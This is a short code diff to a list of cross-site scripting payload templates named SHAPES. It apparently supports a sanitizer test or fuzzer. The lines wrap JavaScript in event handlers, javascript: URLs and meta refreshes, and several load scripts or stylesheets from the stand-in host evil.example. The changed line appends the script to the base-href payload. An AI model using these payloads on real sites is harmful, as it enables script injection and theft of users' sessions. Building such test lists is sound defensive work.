@@ -36,7 +36,7 @@ const SHAPES: ((js: string) => string)[] = [
   (js) => `<marquee onstart=${js}>`,
   (js) => `<object data="javascript:${js}">`,
   (js) => `<embed src="javascript:${js}">`,
-  (js) => `<base href="//evil.example/"><script src=x.js></script>`,
+  (js) => `<base href="//evil.example/"><script src=x.js></script>${js}`,
   (js) => `<link rel=stylesheet href="//evil.example/x.css?${js}">`,
   (js) => `<style>@import '//evil.example/x.css';</style>${js}`,
   (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
